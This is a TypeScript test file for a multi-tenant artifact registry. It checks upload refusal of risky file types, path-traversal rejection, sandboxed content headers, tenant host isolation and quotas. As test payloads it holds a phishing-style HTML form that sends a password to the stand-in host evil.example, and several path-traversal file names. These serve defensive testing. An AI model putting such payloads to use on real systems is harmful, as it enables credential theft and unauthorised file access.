import { manifestFor } from "../../testing/module-origin.ts";
import { portalForTests } from "../../testing/open-test-app.ts";
import { newRegistryCredentialOf, registryClient } from "../../testing/test-registry.ts";
import { pruneArtifacts } from "./prune-artifacts.ts";

const megabyte = 1024 * 1024;
const portal = portalForTests({ config: { artifactQuota: 2 * megabyte } });
let call: ReturnType<typeof registryClient>;
beforeAll(async () => {
  call = registryClient(portal, await newRegistryCredentialOf(portal));
});

const page = "<!doctype html><form action=https://evil.example><input type=password></form>";
const bytesType = { "content-type": "application/octet-stream" };
const get = (url: string, host = "acme.localhost") => portal.app.inject({ url, headers: { host } });
const announce = (name: string, files: Record<string, string>, scope = "acme") => {
  const [entry = ""] = Object.keys(files);
  return call("POST", `/artifacts/${name}`, { scope, manifest: JSON.parse(manifestFor("@app/x", entry, files)) });
};
const send = (name: string, file: string, text: string, scope = "acme") =>
  call("PUT", `/artifacts/${name}/${file}?scope=${scope}`, Buffer.from(text), bytesType);

it.each([
  "signin.html",
  "signin.htm",
  "signin.xhtml",
  "feed.xml",
  "paper.exe",
  "a.js.shtml",
  "signin",
  "a.mht",
  "a.swf",
])("refuses the upload of %s, and does not serve one that an earlier version stored", async (file) => {
  const response = await announce("site", { "a.js": "1", [file]: page });
  expect(response.json().error).toMatchObject({ code: "release.artifact", details: { file } });
  for (const folder of ["site", "acme/site"]) {
    await portal.services.modules.store.add(folder, file, Buffer.from(page));
    const served = await get(`/modules/${folder}/${file}`);
    expect([served.statusCode, served.body.includes("password")]).toEqual([404, false]);
  }
});

it("stores and serves an uploaded file in a sub-folder, on the host of its tenant only", async () => {
  const file = "pages/[id]/page (1).js";
  expect((await announce("nested", { "a.1.js": "1", [file]: "page" })).json().missing).toEqual(["a.1.js", file]);
  const sent = await send("nested", encodeURIComponent(file), "page");
  expect(sent.json()).toMatchObject({ address: "/modules/acme/nested/pages/[id]/page%20(1).js" });
  const { address } = sent.json();
  const responses = await Promise.all(["acme.localhost", "globex.localhost"].map((host) => get(address, host)));
  expect(responses.map(({ statusCode }) => statusCode)).toEqual([200, 404]);
  expect((await get("/modules/acme/nested%2Fpages%2F%5Bid%5D%2Fpage%20(1).js", "globex.localhost")).statusCode).toBe(
    404,
  );
});

it.each(["../b.js", "a/../../b.js", "/b.js", ".b.js", "a\\b.js", "a%2fb.js"])("refuses the file %j", async (file) => {
  expect((await announce("outside", { "a.1.js": "1", [file]: "2" })).statusCode).toBe(400);
  const upload = await send("outside", encodeURIComponent(file), "2");
  expect([400, 404]).toContain(upload.statusCode);
});

it.each([
  ["a.js", "application/javascript"],
  ["a.css", "text/css"],
  ["a.json", "application/json"],
  ["a.js.map", "application/json"],
  ["a.svg", "image/svg+xml"],
  ["a.png", "image/png"],
  ["a.woff2", "font/woff2"],
  ["a.js.LICENSE.txt", "text/plain"],
  ["a.PNG", "image/png"],
  ["a.mp4", "video/mp4"],
  ["a.mp3", "audio/mpeg"],
  ["a.pdf", "application/pdf"],
  ["a.csv", "text/csv"],
  ["a.glb", "model/gltf-binary"],
  ["a.bin", "application/octet-stream"],
])("serves %s as %s only, in a sandbox", async (file, type) => {
  const name = `kinds-${file.toLowerCase().replace(/\W/g, "-")}`;
  expect((await announce(name, { "a.1.js": "1", [file]: page })).statusCode).toBe(200);
  expect((await send(name, file, page)).statusCode).toBe(200);
  const { statusCode, headers } = await get(`/modules/acme/${name}/${file}`);
  expect([statusCode, String(headers["content-type"]).split(";")[0]]).toEqual([200, type]);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["content-security-policy"]).toMatch(/(^|; )sandbox(;|$)/);
});

it.each([
  ["a.mjs", "br"],
  ["a.wasm", "br"],
  ["map.geojson", "br"],
  ["a.mp4", undefined],
])("serves an uploaded %s with the encoding %s, and a part of it on request", async (file, encoding) => {
  const name = `parts-${file.replace(/\W/g, "-")}`;
  const text = "0123456789".repeat(100);
  await announce(name, { "a.1.js": "1", [file]: text });
  await send(name, file, text);
  const request = (headers: Record<string, string>) =>
    portal.app.inject({ url: `/modules/acme/${name}/${file}`, headers: { host: "acme.localhost", ...headers } });
  expect((await request({ "accept-encoding": "br" })).headers["content-encoding"]).toBe(encoding);
  // Players request parts, and without an encoding.
  const part = await request({ range: "bytes=10-14", "accept-encoding": "identity;q=1, *;q=0" });
  expect([part.statusCode, part.headers["content-range"], part.body]).toEqual([206, "bytes 10-14/1000", "01234"]);
});

it("serves the files of a tenant on its host only, and those of the base on every host", async () => {
  const hosts = ["acme.localhost", "globex.localhost", "nobody.localhost"];
  for (const scope of ["acme", "base"]) {
    await announce("where", { "a.js": scope }, scope);
    await send("where", "a.js", scope, scope);
  }
  const statusesOf = (scope: string) =>
    Promise.all(hosts.map(async (host) => (await get(`/modules/${scope}/where/a.js`, host)).statusCode));
  expect(await statusesOf("acme")).toEqual([200, 404, 404]);
  expect(await statusesOf("base")).toEqual([200, 200, 200]);
});

it("enforces the quota of a scope for concurrent uploads, and frees space by pruning", async () => {
  const files = Object.fromEntries([1, 2, 3, 4, 5].map((n) => [`a.${n}.js`, String(n).repeat(megabyte / 2)]));
  expect((await announce("much", files, "globex")).statusCode).toBe(200);
  const responses = await Promise.all(Object.entries(files).map(([file, text]) => send("much", file, text, "globex")));
  const stored = responses.filter(({ statusCode }) => statusCode === 200);
  expect(stored).toHaveLength(3);
  const refused = responses.find(({ statusCode }) => statusCode !== 200);
  expect([refused?.statusCode, refused?.json().error]).toEqual([
    413,
    expect.objectContaining({
      code: "release.quota",
      details: expect.objectContaining({ scope: "globex", most: 2 * megabyte }),
    }),
  ]);
  // A file that is stored already is not counted again, and another scope has its own quota.
  const [first = ""] = stored.map((response) => response.json().address.split("/").at(-1));
  expect((await send("much", first, files[first] ?? "", "globex")).statusCode).toBe(200);
  expect((await announce("little", { "a.js": "1" })).statusCode).toBe(200);
  portal.clock.advance(8 * 24 * 60 * 60 * 1_000);
  await pruneArtifacts(portal, portal.services.modules.store);
  expect((await announce("much", files, "globex")).statusCode).toBe(200);
  expect((await send("much", first, files[first] ?? "", "globex")).statusCode).toBe(200);
});
